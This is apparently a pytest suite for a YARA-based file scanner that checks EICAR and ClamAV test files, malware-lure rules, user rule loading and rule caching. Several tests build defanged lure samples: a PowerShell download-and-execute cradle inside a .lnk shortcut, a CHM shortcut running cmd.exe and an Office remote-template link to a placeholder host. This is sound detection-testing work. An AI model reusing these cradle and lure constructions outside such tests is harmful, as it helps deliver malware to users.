"""YARA (yara-x): built-in rules on real files, user rules, broken rule files, caching.

EICAR cases follow the specification exactly (research perf-and-testsuites.md §2.4): the
68-byte string at offset 0, then only SP/TAB/LF/CR/CTRL-Z, at most 128 bytes in total.
"""

from __future__ import annotations

import base64
import io
import os
import struct
import tarfile
import zipfile

import pylnk3
import pytest
from conftest import node_named, rules_of

from filewall import rulesets
from filewall.limits import Limits


def yara_hits(report, node_name: str | None = None) -> dict[str, dict]:
    """rule_name → params of every YARA finding (optionally only on one node)."""
    return {
        finding.params["rule_name"]: {**finding.params, "rule": finding.rule, "where": finding.where}
        for finding in report.findings
        if finding.rule.startswith("yara.") and (node_name is None or finding.where.endswith(node_name))
    }


@pytest.fixture(autouse=True)
def _fresh_rules():
    rulesets.clear_caches()
    yield
    rulesets.clear_caches()


# -- EICAR ---------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "suffix",
    [b"", b"\r\n", b"\x1a", b" \t\n\r\x1a", b" " * 60],
    ids=["exactly-68", "crlf", "ctrl-z", "each-whitespace", "padded-to-128"],
)
def test_eicar_per_specification(scan, eicar, suffix):
    report = scan(eicar + suffix, "eicar.com")
    assert len(eicar + suffix) <= 128
    hit = yara_hits(report)["EICAR_Test_File"]
    assert hit["rule"] == "yara.critical"
    assert "EICAR" in hit["description"] and "杀毒软件" in hit["description_zh"]
    assert report.verdict.value == "malicious"


@pytest.mark.parametrize(
    "data",
    [
        lambda e: e + b" " * 61,  # 129 bytes
        lambda e: b"\n" + e,  # not at offset 0
        lambda e: e + b"%PDF-1.4\n",  # followed by other data
        lambda e: e.decode().encode("utf-16-le"),  # UTF-16
        lambda e: e[:-1],  # cut short
    ],
    ids=["129-bytes", "leading-newline", "followed-by-data", "utf-16", "truncated"],
)
def test_not_eicar(scan, eicar, data):
    report = scan(data(eicar), "almost.txt")
    assert "EICAR_Test_File" not in yara_hits(report)


def test_eicar_inside_a_zip_is_found_on_the_member(scan, eicar, tmp_path):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("docs/eicar.txt", eicar + b"\r\n")
    report = scan(buffer.getvalue(), "order.zip")
    hit = yara_hits(report)["EICAR_Test_File"]
    assert hit["where"] == "order.zip/docs/eicar.txt"
    assert node_named(report, "eicar.txt").depth == 1


# -- the ClamAV test file -----------------------------------------------------------------------------


def test_clam_exe_by_hash(scan, clam_testfiles):
    report = scan((clam_testfiles / "clam.exe").read_bytes(), "clam.exe")
    hits = yara_hits(report)
    assert hits["ClamAV_Test_File"]["rule"] == "yara.critical"
    assert "ClamAV_Test_File_Embedded" not in hits


def test_one_changed_byte_is_not_the_test_file(scan, clam_testfiles):
    data = bytearray((clam_testfiles / "clam.exe").read_bytes())
    data[0x1F0] ^= 0xFF  # in the zero padding: still the same program bytes around it
    report = scan(bytes(data), "clam2.exe")
    hits = yara_hits(report)
    assert "ClamAV_Test_File" not in hits
    # Its code and markers are all still there, so the "embedded" rule still sees it.
    assert "ClamAV_Test_File_Embedded" in hits


def test_clam_exe_stored_inside_another_file(scan, clam_testfiles, pe_bytes):
    clam = (clam_testfiles / "clam.exe").read_bytes()
    report = scan(b"junk before " * 10 + clam + b"junk after", "blob.bin")
    assert yara_hits(report, "blob.bin")["ClamAV_Test_File_Embedded"]["rule"] == "yara.critical"
    assert not yara_hits(scan(pe_bytes, "launcher.exe"))


def test_clam_exe_as_base64_in_a_web_page(scan, clam_testfiles, pe_bytes):
    report = scan((clam_testfiles / "clam.exe.html").read_bytes(), "clam.exe.html")
    assert "ClamAV_Test_File_Base64" in yara_hits(report, "clam.exe.html")
    benign = b'<a href="data:application/octet-stream;base64,' + base64.b64encode(pe_bytes) + b'">x</a>'
    assert "ClamAV_Test_File_Base64" not in yara_hits(scan(benign, "page.html"))


def test_symbian_installer(scan, clam_testfiles):
    report = scan((clam_testfiles / "clam.sis").read_bytes(), "game.sis")
    assert yara_hits(report)["Symbian_SIS_Installer"]["rule"] == "yara.high"
    other = bytearray((clam_testfiles / "clam.sis").read_bytes())
    other[8:12] = struct.pack("<I", 0x10000420)  # another UID3: not a SIS package
    assert "Symbian_SIS_Installer" not in yara_hits(scan(bytes(other), "data.bin"))


# -- lure rules --------------------------------------------------------------------------------------------


def _lnk(target: str, **options) -> bytes:
    buffer = io.BytesIO()
    pylnk3.for_file(target, **options).write(buffer)
    return buffer.getvalue()


def test_lnk_running_powershell(scan):
    cradle = (
        "-w hidden -nop -c \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.10/TEST-ONLY')\""
    )
    report = scan(
        _lnk(r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", arguments=cradle), "订单.pdf.lnk"
    )
    assert yara_hits(report)["LNK_Runs_Command_Interpreter"]["rule"] == "yara.critical"
    plain = _lnk(r"C:\Users\Public\Documents\report.docx")
    assert "LNK_Runs_Command_Interpreter" not in yara_hits(scan(plain, "report.lnk"))


def test_sfx_that_runs_a_script(scan, pe_bytes):
    config = b';!@Install@!UTF-8!\r\nRunProgram="wscript.exe setup.vbs"\r\n;!@InstallEnd@!\r\n'
    report = scan(pe_bytes + config + b"7z\xbc\xaf\x27\x1c" + bytes(64), "图纸.exe")
    assert yara_hits(report, "图纸.exe")["SFX_Runs_Script_Host"]["rule"] == "yara.critical"
    harmless = b';!@Install@!UTF-8!\r\nRunProgram="setup.exe"\r\n;!@InstallEnd@!\r\n'
    assert "SFX_Runs_Script_Host" not in yara_hits(scan(pe_bytes + harmless, "setup.exe"))


def test_hta_with_wscript_shell(scan):
    hta = b'<html><head><hta:application windowstate="minimize"/></head>\n<script>// new ActiveXObject("WScript.Shell")\n</script></html>'
    assert "HTA_Runs_Shell_Commands" in yara_hits(scan(hta, "t.hta"))
    page = b"<html><body>How to use WScript.Shell in your admin scripts</body></html>"
    assert "HTA_Runs_Shell_Commands" not in yara_hits(scan(page, "howto.html"))


def _onenote(embedded: bytes) -> bytes:
    header = bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(64)
    fdso = bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") + struct.pack("<Q", len(embedded)) + bytes(12)
    return header + fdso + embedded + bytes(32)


def test_onenote_with_embedded_program(scan, pe_bytes):
    assert "OneNote_Embeds_Executable" in yara_hits(scan(_onenote(pe_bytes[:512]), "notes.one"))
    picture = b"\x89PNG\r\n\x1a\n" + bytes(64)
    assert "OneNote_Embeds_Executable" not in yara_hits(scan(_onenote(picture), "notes.one"))


def test_chm_page_with_shortcut_command(scan):
    page = (
        b'<OBJECT id=x classid="clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11" width=1 height=1>'
        b'<PARAM name="Command" value="ShortCut"><PARAM name="Button" value="Bitmap::shortcut">'
        b'<PARAM name="Item1" value=",cmd.exe,/c echo TEST-ONLY"></OBJECT>'
    )
    assert "CHM_ShortCut_Command" in yara_hits(scan(page, "index.html"))
    help_link = b'<OBJECT classid="clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11"><PARAM name="Command" value="Close"></OBJECT>'
    assert "CHM_ShortCut_Command" not in yara_hits(scan(help_link, "index.html"))


def test_office_remote_template(scan):
    rels = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        b'<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="http://192.0.2.10/TEST-ONLY.dotm" TargetMode="External"/></Relationships>'
    )
    assert yara_hits(scan(rels, "settings.xml.rels"))["Office_Remote_Template"]["rule"] == "yara.high"
    local = rels.replace(b"http://192.0.2.10/TEST-ONLY.dotm", b"Normal.dotm").replace(
        b' TargetMode="External"', b""
    )
    assert "Office_Remote_Template" not in yara_hits(scan(local, "settings.xml.rels"))


def test_winos_valleyrat_strings(scan):
    sample = "config: IpDatespecial=1\nkey=d33f351a4aeea5e608853d1a56661059\n".encode("utf-16-le")
    assert "Winos_ValleyRAT_Strings" in yara_hits(scan(sample, "1.txt"))
    one_string = b"IpDatespecial is mentioned in a threat report, nothing else"
    assert "Winos_ValleyRAT_Strings" not in yara_hits(scan(one_string, "report.txt"))


def test_builtin_rules_all_compile_without_problems():
    rules = rulesets.yara_rules()
    names = {os.path.basename(path) for path in rules.files}
    assert {"test_files.yar", "lures.yar", "installers.yar"} <= names
    assert rules.problems == []


# -- user rules ------------------------------------------------------------------------------------------

USER_RULE = """
rule Shop_Blacklisted_Phrase {
    meta:
        severity = "medium"
        description = "mentions the blocked supplier"
        description_zh = "提到了被拉黑的供应商"
    strings:
        $a = "ACME-BLOCKED-SUPPLIER"
    condition:
        $a
}
"""


def test_user_rules_from_option_with_severity_and_chinese_description(scan, tmp_path):
    folder = tmp_path / "rules"
    folder.mkdir()
    (folder / "shop.yar").write_text(USER_RULE)
    report = scan(b"invoice from ACME-BLOCKED-SUPPLIER", "invoice.txt", rule_paths=[str(folder)])
    hit = yara_hits(report)["Shop_Blacklisted_Phrase"]
    assert hit["rule"] == "yara.medium"
    finding = next(item for item in report.findings if item.rule == "yara.medium")
    assert "mentions the blocked supplier" in finding.message
    assert "提到了被拉黑的供应商" in finding.message_zh and "invoice.txt" in finding.message_zh
    assert "Shop_Blacklisted_Phrase" not in yara_hits(scan(b"invoice from a good supplier", "invoice.txt"))


def test_user_rules_from_environment(scan, tmp_path, monkeypatch):
    rule_file = tmp_path / "env.yara"
    rule_file.write_text('rule From_Env { strings: $a = "ENV-MARKER-42" condition: $a }')
    monkeypatch.setenv("FILEWALL_RULES", os.pathsep.join([str(tmp_path / "missing"), str(rule_file)]))
    hit = yara_hits(scan(b"xx ENV-MARKER-42 xx", "a.txt"))["From_Env"]
    assert hit["rule"] == "yara.high"  # no severity in meta: the default
    assert hit["description"] == "the rule gives no description"
    assert hit["description_zh"] == "该规则没有填写说明"


def test_invalid_severity_falls_back_to_high(scan, tmp_path):
    (tmp_path / "odd.yar").write_text(
        'rule Odd { meta: severity = "extreme" strings: $a = "ODD-1" condition: $a }'
    )
    assert yara_hits(scan(b"ODD-1", "a.txt", rule_paths=[str(tmp_path)]))["Odd"]["rule"] == "yara.high"


def test_broken_rule_file_is_skipped_with_a_warning(scan, tmp_path, capfd, eicar):
    folder = tmp_path / "rules"
    folder.mkdir()
    (folder / "a_broken.yar").write_text("rule Broken { condition: no_such_identifier }")
    (folder / "b_good.yar").write_text(USER_RULE)
    # Same rule name as a built-in: each file has its own namespace, so no clash.
    (folder / "c_same_name.yar").write_text(
        'rule EICAR_Test_File { strings: $a = "SAME-NAME" condition: $a }'
    )
    report = scan(b"ACME-BLOCKED-SUPPLIER SAME-NAME", "x.txt", rule_paths=[str(folder)])
    warning = capfd.readouterr().err
    assert "a_broken.yar" in warning and "skipped" in warning and "no_such_identifier" in warning
    assert {"Shop_Blacklisted_Phrase", "EICAR_Test_File"} <= set(yara_hits(report))
    assert "EICAR_Test_File" in yara_hits(scan(eicar, "eicar.com", rule_paths=[str(folder)]))
    rules = rulesets.yara_rules([str(folder)])
    assert len(rules.problems) == 1 and "a_broken.yar" in rules.problems[0]


def test_rules_are_compiled_once_and_reloaded_when_a_file_changes(tmp_path):
    rule_file = tmp_path / "one.yar"
    rule_file.write_text('rule One { strings: $a = "ONE" condition: $a }')
    first = rulesets.yara_rules([str(tmp_path)])
    assert rulesets.yara_rules([str(tmp_path)]) is first
    rule_file.write_text('rule Two { strings: $a = "TWO" condition: $a }')
    os.utime(rule_file, ns=(1, 1))  # a different modification time, whatever the clock
    second = rulesets.yara_rules([str(tmp_path)])
    assert second is not first
    names = [rule.identifier for rule in second.scanner().scan(b"ONE TWO").matching_rules]
    assert "Two" in names and "One" not in names


# -- big content: scanned from its file, never copied ----------------------------------------------------


def test_large_input_is_scanned_from_disk(scan, tmp_path):
    (tmp_path / "end.yar").write_text('rule Tail_Marker { strings: $a = "TAIL-MARKER-777" condition: $a }')
    data = os.urandom(3 * 1024 * 1024) + b"TAIL-MARKER-777"
    limits = Limits.from_env({}, spool_threshold=256 * 1024)
    report = scan(data, "big.bin", rule_paths=[str(tmp_path)], limits=limits)
    assert "Tail_Marker" in yara_hits(report)


def test_large_member_spooled_to_a_temp_file_is_scanned(scan, tmp_path):
    (tmp_path / "end.yar").write_text('rule Tail_Marker { strings: $a = "TAIL-MARKER-777" condition: $a }')
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        payload = os.urandom(2 * 1024 * 1024) + b"TAIL-MARKER-777"
        info = tarfile.TarInfo("inner.bin")
        info.size = len(payload)
        archive.addfile(info, io.BytesIO(payload))
    limits = Limits.from_env({}, spool_threshold=256 * 1024)
    report = scan(buffer.getvalue(), "outer.tar", rule_paths=[str(tmp_path)], limits=limits)
    assert yara_hits(report, "inner.bin")["Tail_Marker"]["where"] == "outer.tar/inner.bin"


def test_only_the_first_max_file_size_bytes_are_scanned(scan, tmp_path):
    (tmp_path / "end.yar").write_text('rule Tail_Marker { strings: $a = "TAIL-MARKER-777" condition: $a }')
    data = bytes(300 * 1024) + b"TAIL-MARKER-777"
    limits = Limits.from_env({}, max_file_size=200 * 1024)
    report = scan(data, "cut.bin", rule_paths=[str(tmp_path)], limits=limits)
    assert "Tail_Marker" not in yara_hits(report)
    assert "limit.file_size" in rules_of(report)


def test_a_missing_rule_folder_is_reported_once(scan, tmp_path, capfd):
    missing = str(tmp_path / "no-such-folder")
    for name in ("a.txt", "b.txt"):
        scan(b"hello", name, rule_paths=[missing])
    assert capfd.readouterr().err.count("no-such-folder does not exist") == 1
